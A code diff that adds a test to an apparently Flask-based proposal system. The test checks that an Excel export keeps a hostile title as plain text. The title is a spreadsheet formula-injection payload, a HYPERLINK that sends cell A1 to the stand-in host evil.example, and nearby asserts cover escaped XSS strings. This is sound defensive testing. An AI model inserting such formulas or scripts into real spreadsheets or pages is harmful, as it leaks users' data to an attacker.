@@ -35,3 +35,24 @@ def test_hostile_proposal_text_is_escaped_everywhere(app, users, login_as):
         detail = client.get(f"/proposals/{pid}").get_data(as_text=True)
         assert "&lt;script&gt;alert(" in detail, role
         assert "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;" in detail or "&quot;&gt;&lt;img" in detail, role
+
+
+def test_exports_keep_hostile_text_as_text(app, users, login_as):
+    """Excel exports: a title starting with "=" stays text, never a formula Excel would run."""
+    import io
+
+    from openpyxl import load_workbook
+
+    ids = build(app, users).ids
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
+    with app.app_context():
+        proposal = db.session.get(Proposal, ids["proposal_id"])
+        proposal.title = formula
+        proposal.content = SCRIPT
+        db.session.commit()
+    response = login_as("coordinator").get("/reports/export/proposals.xlsx")
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(response.data)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == formula]
+    assert cells, "the hostile title should be in the export"
+    assert all(cell.data_type == "s" for cell in cells)
